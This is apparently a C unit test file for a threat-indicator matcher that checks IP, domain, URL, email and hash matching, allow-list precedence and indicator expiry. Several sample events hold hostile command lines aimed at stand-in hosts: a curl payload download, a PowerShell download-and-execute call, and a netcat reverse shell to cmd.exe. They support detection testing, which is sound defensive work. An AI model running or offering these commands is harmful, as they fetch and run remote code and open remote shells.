#include "detect/indicator_match.h"

#include <stdio.h>

#include "base/clock.h"
#include "event/json_event.h"
#include "test.h"

/* What a table of these raises on an event, as "rule value@field …" in the order found. */
struct bench {
    struct indicator_builder *builder;
    struct indicator_fields *fields;
};

static void add(struct bench *b, const char *text, bool allow)
{
    ARENA_AUTO arena;
    struct indicator indicator;
    struct error e = ERROR_NONE;
    bool trusted = text[0] == '.';
    arena_init(&arena, 0);
    CHECK(indicator_read(slice_of(text + trusted), INDICATOR_TYPE_ANY, &arena, &indicator, &e));
    struct indicator_row row = {
        .type = indicator.type, .key = indicator.key, .source = SLICE("ncsc"),
        .confidence = allow ? trusted ? INDICATOR_TRUSTED : 0 : 75, .tlp = TLP_AMBER, .allow = allow,
        .valid_until = allow ? 0 : 2000000000 * CLOCK_SECOND,
    };
    CHECK(indicator_builder_add(b->builder, &row, &e));
}

/* indicators and allow-list, blank between; the latter begin with '!'. */
static const char *finds(const char *indicators, const char *json, int64_t time,
                         struct alert *alert_out, struct arena *arena)
{
    static char out[2048];
    struct bench b = { indicator_builder_new(), NULL };
    struct error e = ERROR_NONE;
    struct indicator_table *table = NULL;
    struct slice rest = slice_of(indicators), one;
    struct event event = { .raw = slice_of(json), .time = time };
    const struct indicator_found *found;
    size_t len = 0;
    out[0] = '\0';
    while (slice_split(&rest, ' ', &one)) {
        char text[512];
        bool allow = one.data[0] == '!';
        snprintf(text, sizeof text, "%.*s", SLICE_ARGS(slice_after(one, allow)));
        add(&b, text, allow);
    }
    CHECK(indicator_fields_load(INDICATORS "/fields.yaml", &b.fields, &e));
    CHECK(indicator_builder_table(b.builder, &table, &e));
    if (json[0] == '{')
        CHECK(json_event_decode(event.raw, arena, &event.fields, &event.field_count, &e));
    else
        event.flags = EVENT_UNDECODED;
    struct indicator_matcher *m = indicator_matcher_new(b.fields, table);
    for (int round = 0; round < 2; round++) { /* the second with the names remembered */
        uint32_t count = indicator_matcher_scan(m, &event, &found);
        len = 0;
        out[0] = '\0';
        for (uint32_t i = 0; i < count; i++) {
            struct alert alert;
            char value[INDICATOR_VALUE_MOST];
            struct indicator_row row = indicator_table_row(table, found[i].entry);
            if (!indicator_alert(m, &event, &found[i], arena, &alert))
                continue;
            if (alert_out)
                *alert_out = alert;
            struct slice field = found[i].field == INDICATOR_NONE
                                     ? SLICE("-") : event.fields[found[i].field].name;
            len += (size_t)snprintf(out + len, sizeof out - len, "%s%.*s %.*s@%.*s", len ? ", " : "",
                                    SLICE_ARGS(alert.rule),
                                    SLICE_ARGS(indicator_key_text(row.type, row.key, value)),
                                    SLICE_ARGS(field));
        }
    }
    indicator_matcher_free(&m);
    indicator_table_close(&table);
    indicator_builder_free(&b.builder);
    indicator_fields_free(&b.fields);
    return out;
}

TEST("indicators are found in the fields where such values stand, and only there") {
    static const struct { const char *indicators, *json, *finds; } rows[] = {
        { "192.0.2.7", "{\"src_ip\":\"192.0.2.7\"}", "indicator:address 192.0.2.7@src_ip" },
        { "192.0.2.7", "{\"src_ip\":\"192.0.2.7:443\"}", "indicator:address 192.0.2.7@src_ip" },
        { "192.0.2.7", "{\"src_ip\":\"::ffff:192.0.2.7\"}", "indicator:address 192.0.2.7@src_ip" },
        { "192.0.2.7", "{\"version\":\"192.0.2.7\"}", "" },
        { "192.0.2.7", "{\"src_ip\":\"192.0.2.70\"}", "" },
        { "192.0.2.0/25", "{\"Event\":{\"EventData\":{\"DestinationIp\":\"192.0.2.99\"}}}",
          "indicator:address 192.0.2.0/25@Event.EventData.DestinationIp" },
        { "192.0.2.0/25", "{\"dst_ip\":\"192.0.2.129\"}", "" },
        { "2001:db8::/33", "{\"dst_ip\":\"2001:db8:7fff::1\"}",
          "indicator:address 2001:db8::/33@dst_ip" },
        { "2001:db8::/33", "{\"dst_ip\":\"2001:db8:8000::1\"}", "" },
        { "evil.example", "{\"QueryName\":\"WWW.Evil.Example.\"}",
          "indicator:domain evil.example@QueryName" },
        { "evil.example", "{\"QueryName\":\"notevil.example\"}", "" },
        { "evil.example", "{\"QueryName\":\"evil.example.org\"}", "" },
        { "sub.evil.example", "{\"QueryName\":\"evil.example\"}", "" },
        { "evil.example 192.0.2.7", "{\"query\":\"192.0.2.7\"}",
          "indicator:address 192.0.2.7@query" },
        { "http://evil.example/a?b=1", "{\"c-uri\":\"https://EVIL.example/a?b=1#x\"}",
          "indicator:url evil.example/a?b=1@c-uri" },
        { "http://evil.example/a", "{\"c-uri\":\"http://evil.example/b\"}", "" },
        { "evil.example", "{\"c-uri\":\"http://x.evil.example:8080/b\"}",
          "indicator:domain evil.example@c-uri" },
        { "192.0.2.7", "{\"url\":{\"full\":\"http://192.0.2.7/b\"}}",
          "indicator:address 192.0.2.7@url.full" },
        { "2001:db8::7", "{\"c-uri\":\"http://[2001:db8::7]:8080/b\"}",
          "indicator:address 2001:db8::7@c-uri" },
        { "bad@evil.example", "{\"sender\":\"Boss <BAD@evil.example>\"}",
          "indicator:email bad@evil.example@sender" },
        { "evil.example", "{\"sender\":\"x@mail.evil.example\"}",
          "indicator:domain evil.example@sender" },
        { "d41d8cd98f00b204e9800998ecf84271",
          "{\"Hashes\":\"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80701,MD5=D41D8CD98F00B204E9800998ECF84271,"
          "IMPHASH=00000000000000000000000000000001\"}",
          "indicator:hash d41d8cd98f00b204e9800998ecf84271@Hashes" },
        { "d41d8cd98f00b204e9800998ecf84271",
          "{\"Hashes\":\"MD5=D41D8CD98F00B204E9800998ECF84272,IMPHASH=D41D8CD98F00B204E9800998ECF84271\"}",
          "" },
        { "d41d8cd98f00b204e9800998ecf84271", "{\"md5\":\"d41d8cd98f00b204e9800998ecf84271\"}",
          "indicator:hash d41d8cd98f00b204e9800998ecf84271@md5" },
        { "evil.example", "{\"CommandLine\":\"curl -o x 'http://cdn.evil.example/p.exe'\"}",
          "indicator:domain evil.example@CommandLine" },
        { "http://cdn.example/p.exe", "{\"CommandLine\":\"iex(New-Object Net.WebClient)."
          "DownloadString('http://cdn.example/p.exe')\"}",
          "indicator:url cdn.example/p.exe@CommandLine" },
        { "192.0.2.7", "{\"CommandLine\":\"nc 192.0.2.7:4444 -e cmd.exe\"}",
          "indicator:address 192.0.2.7@CommandLine" },
        { "192.0.2.7", "{\"CommandLine\":\"x 192.0.2.7.8\"}", "" },
        { "d41d8cd98f00b204e9800998ecf84271",
          "{\"CommandLine\":\"certutil d41d8cd98f00b204e9800998ecf84271\"}",
          "indicator:hash d41d8cd98f00b204e9800998ecf84271@CommandLine" },
        { "192.0.2.7", "Oct  1 kernel: SRC=192.0.2.7 DST=10.0.0.1", "indicator:address 192.0.2.7@-" },
        { "2001:db8::7", "{\"CommandLine\":\"ping -6 2001:DB8:0:0::7\"}",
          "indicator:address 2001:db8::7@CommandLine" },
        { "2001:db8::7", "Oct  1 10:11:12 sshd[5]: Failed password from 2001:db8::7: port 22",
          "indicator:address 2001:db8::7@-" },
        { "2001:db8::7", "{\"CommandLine\":\"nc [2001:db8::7]:4444\"}",
          "indicator:address 2001:db8::7@CommandLine" },
        { "2001:db8::/32 ::1", "kernel: SRC=2001:0db8:0000:0000:0000:0000:0000:0009 LEN=60",
          "indicator:address 2001:db8::/32@-" },
        { "192.0.2.7", "kernel: SRC=::ffff:192.0.2.7. DST=::2", "indicator:address 192.0.2.7@-" },
        { "2001:db8::7", "{\"CommandLine\":\"x 2001:db8::70 12:34:56 std::string a::b\"}", "" },
        { "2001:db8::7", "{\"CommandLine\":\"x 2001:db8::7\"}",
          "indicator:address 2001:db8::7@CommandLine" },
        { "evil.example 192.0.2.7", "{\"src_ip\":\"192.0.2.7\",\"dst_ip\":\"192.0.2.7\"}",
          "indicator:address 192.0.2.7@src_ip" },
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        ARENA_AUTO arena;
        arena_init(&arena, 0);
        CHECK_TEXT(finds(rows[i].indicators, rows[i].json, 1, NULL, &arena), rows[i].finds);
    }
}

TEST("the allow-list holds against every network, and the more particular domain decides") {
    static const struct { const char *indicators, *json, *finds; } rows[] = {
        { "8.8.8.8 !8.8.8.8", "{\"dst_ip\":\"8.8.8.8\"}", "" },
        { "8.0.0.0/8 !8.8.8.8", "{\"dst_ip\":\"8.8.8.8\"}", "" },
        { "8.0.0.0/8 !8.8.8.8", "{\"dst_ip\":\"8.8.8.9\"}", "indicator:address 8.0.0.0/8@dst_ip" },
        { "10.1.2.3 !10.0.0.0/8", "{\"dst_ip\":\"10.1.2.3\"}", "" },
        { "github.io !github.io", "{\"QueryName\":\"a.github.io\"}", "" },
        { "evil.github.io !github.io", "{\"QueryName\":\"x.evil.github.io\"}",
          "indicator:domain evil.github.io@QueryName" },
        { "example.com !cdn.example.com", "{\"QueryName\":\"cdn.example.com\"}", "" },
        { "example.com !cdn.example.com", "{\"QueryName\":\"x.example.com\"}",
          "indicator:domain example.com@QueryName" },
        { "x.trusted.example !.trusted.example", "{\"QueryName\":\"x.trusted.example\"}", "" },
        { "https://github.com/evil/x !github.com", "{\"c-uri\":\"https://github.com/evil/x\"}",
          "indicator:url github.com/evil/x@c-uri" },
        { "d41d8cd98f00b204e9800998ecf8427e !d41d8cd98f00b204e9800998ecf8427e",
          "{\"md5\":\"d41d8cd98f00b204e9800998ecf8427e\"}", "" },
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        ARENA_AUTO arena;
        arena_init(&arena, 0);
        CHECK_TEXT(finds(rows[i].indicators, rows[i].json, 1, NULL, &arena), rows[i].finds);
    }
}

TEST("the alert names indicator, source, confidence and TLP; an expired indicator raises none") {
    ARENA_AUTO arena;
    struct alert alert = { 0 };
    const char *json = "{\"DestinationIp\":\"192.0.2.7\"}";
    arena_init(&arena, 0);
    finds("192.0.2.7", json, 1700000000 * CLOCK_SECOND, &alert, &arena);
    CHECK_SLICE(alert.rule, "indicator:address");
    CHECK_SLICE(alert.title, "Threat indicator: 192.0.2.7");
    CHECK_SLICE(alert.author, "ncsc");
    CHECK_SLICE(alert.entity, "DestinationIp=192.0.2.7");
    CHECK_SLICE(alert.tags, "tlp.amber");
    CHECK_INT(alert.level, LEVEL_HIGH);
    CHECK_SLICE(alert.why,
                "[{\"selection\":\"indicator\",\"field\":\"DestinationIp\",\"modifier\":\"address\","
                "\"pattern\":\"192.0.2.7\",\"value\":\"192.0.2.7\",\"source\":\"ncsc\","
                "\"confidence\":75,\"tlp\":\"amber\",\"valid_until\":\"2033-05-18T10:33:20.000+07:00\"}]");
    CHECK_TEXT(finds("192.0.2.7", json, 2000000001 * CLOCK_SECOND, NULL, &arena), "");
}
